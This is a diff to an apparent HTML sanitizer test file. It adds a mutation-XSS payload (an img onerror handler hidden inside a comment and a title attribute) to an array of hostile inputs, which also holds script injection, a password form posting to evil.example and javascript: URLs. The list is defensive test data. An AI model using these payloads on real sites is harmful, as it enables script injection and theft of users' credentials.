@@ -11,6 +11,8 @@ const HOSTILE = [
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  // Its cleaned form is read otherwise than it was: it is cleaned until it stays.
+  '<p>before <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"> after</p>',
   '<form action="https://evil.example"><input name=password></form>',
   '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
   '<img src="https://tracker.example/p.gif">',
